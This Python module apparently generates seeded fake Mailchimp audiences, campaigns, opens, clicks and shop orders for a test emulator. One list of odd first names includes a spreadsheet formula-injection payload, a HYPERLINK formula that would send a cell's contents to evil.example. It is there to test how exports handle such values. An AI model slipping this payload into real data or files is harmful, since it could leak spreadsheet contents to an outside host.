"""A seeded generator of realistic audiences for the Mailchimp emulator.

Same seed, same audience: members with COMPANY and JOBTITLE, every status,
ratings, e-commerce stats, mixed-case and non-ASCII addresses, names that
look like formulas, hand-made tags and a saved segment; campaigns sent over
the lookback window with opens and clicks whose timing and links vary with
each member's appetite; and, apart, a shop's orders (``generate_orders``).
"""

from __future__ import annotations

import itertools
import random
import unicodedata
from collections.abc import Sequence
from dataclasses import dataclass
from datetime import datetime, timedelta

from syncbot.sandbox.mailchimp import MailchimpEmulator, subscriber_hash

FIRST = ["Ana", "Luis", "María", "José", "Lucía", "Carlos", "Sofía", "Javier", "Elena", "Diego",
         "Paula", "Andrés", "Camila", "Mateo", "Valeria", "Hugo", "Noa", "Emma", "Liam", "Olivia"]
LAST = ["García", "Martínez", "López", "Sánchez", "Pérez", "Gómez", "Fernández", "Díaz",
        "Ruiz", "Álvarez", "Smith", "Johnson", "Núñez", "Castillo", "Ortega"]
COMPANIES = ["Acme SL", "Globex", "Iniciativa Verde", "Panadería Sol", "Tecnoandes",
             "Hooli", "Initech", "Café Norte", "Umbrella", "Soylent", ""]
JOBS = ["Director de Marketing", "CEO", "Marketing Manager", "Analista", "Student",
        "Head of Growth", "Fundadora", "Dueño", "Consultant", "VP Sales", ""]
FORMULA_NAMES = ['=HYPERLINK("http://evil.example/?x="&A1,"click me")', "+34 600 123 456",
                 "@marta", "-Pedro", "=1+1"]
URLS = ["https://shop.example.com/pricing", "https://shop.example.com/products/crm",
        "https://blog.example.com/email-tips", "https://events.example.com/webinar-2026",
        "https://shop.example.com/checkout?promo=SPRING", "https://blog.example.com/seo-guide"]
STATUSES = [("subscribed", 0.82), ("unsubscribed", 0.09), ("cleaned", 0.04), ("pending", 0.03),
            ("transactional", 0.02)]
COUNTRIES = ["ES", "MX", "AR", "CO", "CL", "US", "GB", "DE", "PE", ""]


@dataclass(frozen=True)
class GeneratedAudience:
    list_id: str
    emails: list[str]
    campaign_ids: list[str]


def generate_audience(emulator: MailchimpEmulator, *, list_id: str = "a1b2c3d4e5",
                      members: int = 1000, campaigns: int = 6, now: datetime,
                      lookback_days: int = 90, seed: int = 1) -> GeneratedAudience:
    """Fill ``emulator`` with an audience; returns the addresses and campaign ids it made."""
    rng = random.Random(seed)
    emulator.add_audience(list_id, "Sandbox audience")
    emails: list[str] = []
    appetite: dict[str, float] = {}
    for i in range(members):
        first, last = rng.choice(FIRST), rng.choice(LAST)
        if i % 97 == 5:
            first = FORMULA_NAMES[(i // 97) % len(FORMULA_NAMES)]
        local = f"{first}.{last}{i}" if i % 7 == 0 else f"{first.lower()}.{last.lower()}{i}"
        if i % 7 != 0:
            # as people do: López -> lopez, Sofía -> sofia (the accent goes, the letter stays)
            local = unicodedata.normalize("NFKD", local).encode("ascii", "ignore").decode() \
                or f"user{i}"
        if not local.replace(".", "").replace(str(i), "").isalnum():
            local = f"lead{i}"
        email = f"{local}@{rng.choice(['Example.com', 'correo.es', 'empresa.mx'])}"
        status = rng.choices([s for s, _ in STATUSES], [w for _, w in STATUSES])[0]
        orders = rng.choice([0, 0, 0, 1, 2, 5])
        emulator.add_member(
            list_id, email, status=status,
            merge_fields={"FNAME": first, "LNAME": last, "COMPANY": rng.choice(COMPANIES),
                          "JOBTITLE": rng.choice(JOBS)},
            member_rating=rng.randint(1, 5), avg_open_rate=round(rng.random(), 2),
            avg_click_rate=round(rng.random() / 3, 2), orders=orders,
            revenue=round(orders * rng.uniform(20, 200), 2),
            country_code=rng.choice(COUNTRIES), language=rng.choice(["es", "en", "es", "pt"]),
            source=rng.choice(["API - Generic", "Import", "Hosted Signup Form"]),
            vip=rng.random() < 0.03,
            timestamp_opt=now - timedelta(days=rng.randint(1, 900), seconds=rng.randint(0, 86399)))
        emails.append(email)
        appetite[email] = rng.random() ** 2
    members_by_hash = emulator.audiences[list_id].members
    subscribed = [e for e in emails if members_by_hash[subscriber_hash(e)].status
                  in ("subscribed", "unsubscribed")]  # those who were on the list when sent
    emulator.create_segment(list_id, "webinar-2026",
                            emails=[e for e in emails if rng.random() < 0.05])
    emulator.create_segment(list_id, "VIP (manual)", emails=[e for e in emails if rng.random() < 0.02])
    emulator.create_segment(list_id, "Engaged Spain", type="saved",
                            options={"match": "all", "conditions": [
                                {"condition_type": "TextMerge", "field": "COUNTRY", "op": "is",
                                 "value": "ES"}]}, emails=emails[: members // 10])
    campaign_ids = []
    for c in range(campaigns):
        sent = now - timedelta(days=lookback_days * (c + 0.5) / max(campaigns, 1),
                               hours=rng.randint(0, 12))
        campaign = emulator.add_campaign(list_id, sent, title=f"Newsletter {c + 1}",
                                         recipients=subscribed)
        campaign_ids.append(campaign.id)
        for email in subscribed:
            if rng.random() < 0.01:
                emulator.add_event(campaign.id, email, "bounce", sent + timedelta(minutes=1))
                continue
            if rng.random() > appetite[email]:
                continue
            for _ in range(rng.choice([1, 1, 2, 3])):
                when = sent + timedelta(minutes=rng.randint(1, 60 * 24 * 5))
                if when < now:
                    emulator.add_event(campaign.id, email, "open", when)
            if rng.random() < 0.35:
                when = sent + timedelta(minutes=rng.randint(5, 60 * 24 * 5))
                if when < now:
                    emulator.add_event(campaign.id, email, "click", when, rng.choice(URLS))
    return GeneratedAudience(list_id, emails, campaign_ids)


PRODUCTS = ["Trail boots", "Botas de montaña", "Wool socks", "Calcetines térmicos",
            "Rain jacket", "Chaqueta impermeable", "Mochila 30 L", "Gorro de lana",
            "Camiseta técnica", "Gift card"]
STORES = (("sandbox-shop", "Sandbox shop", "EUR"),)


@dataclass(frozen=True)
class GeneratedOrders:
    store_ids: list[str]
    order_ids: list[tuple[str, str]]  # (store id, order id), in the order they were made
    buyers: list[str]  # the addresses that bought, members or not, as the stores wrote them


def generate_orders(emulator: MailchimpEmulator, audience: GeneratedAudience, *, now: datetime,
                    orders: int = 1000, days: int = 400, seed: int = 1,
                    stores: Sequence[tuple[str, str, str]] = STORES) -> GeneratedOrders:
    """Fill ``emulator``'s shop with ``orders`` orders over the last ``days`` days: a few
    loyal buyers and many one-off ones, more orders lately, some brought by the audience's
    campaigns, some refunded or cancelled, some by customers who are not members (guests),
    and addresses spelled in another case than the audience's; ``stores``: (id, name,
    currency) of each connected store."""
    rng = random.Random(seed)
    shop = emulator.shop
    for store_id, name, currency in stores:
        shop.add_store(store_id, audience.list_id, name=name, currency_code=currency)
    buyers = [email for email in audience.emails if rng.random() < 0.35]
    loyalty = list(itertools.accumulate(  # a few buy again and again (cumulative weights: a
        min(rng.paretovariate(1.5), 12.0) for _ in buyers))  # draw is a bisection, not a sum)
    made: list[tuple[str, str]] = []
    for number in range(orders):
        if rng.random() < 0.08 or not buyers:
            email = f"guest{rng.randint(1, max(orders // 4, 1))}@tienda.example"
        else:
            email = rng.choices(buyers, cum_weights=loyalty)[0]
            email = email.upper() if rng.random() < 0.05 else email
        age = days * rng.random() ** 1.6  # more orders lately
        placed = now - timedelta(days=age, seconds=rng.randint(0, 3600))
        store_id = stores[0][0] if len(stores) == 1 or rng.random() < 0.8 \
            else rng.choice(stores[1:])[0]
        roll = rng.random()
        order_id = f"o{number + 1:07d}"
        shop.add_order(
            store_id, order_id, email, placed, rng.uniform(15, 250),
            financial_status="refunded" if roll < 0.04 else "paid",
            cancelled_at=placed + timedelta(hours=2) if 0.04 <= roll < 0.06 else None,
            campaign_id=rng.choice(audience.campaign_ids)
            if audience.campaign_ids and rng.random() < 0.3 else "",
            products=rng.sample(PRODUCTS, rng.choice([1, 1, 1, 2, 3])))
        made.append((store_id, order_id))
    _member_totals(emulator, audience.list_id)
    return GeneratedOrders([s[0] for s in stores], made, buyers)


def _member_totals(emulator: MailchimpEmulator, list_id: str) -> None:
    """Each member's e-commerce totals (``stats.ecommerce_data``) as Mailchimp keeps them from
    the stores' orders: every order not refunded or cancelled, whatever its age."""
    totals: dict[str, tuple[int, float]] = {}
    for store in emulator.shop.stores.values():
        for order in store.orders.values():
            if order.financial_status != "refunded" and not order.cancelled_at:
                key = subscriber_hash(order.email)
                count, revenue = totals.get(key, (0, 0.0))
                totals[key] = (count + 1, revenue + order.total)
    for key, member in emulator.audiences[list_id].members.items():
        count, revenue = totals.get(key, (0, 0.0))
        emulator.update_stats(list_id, member.email_address, number_of_orders=count,
                              total_revenue=round(revenue, 2))
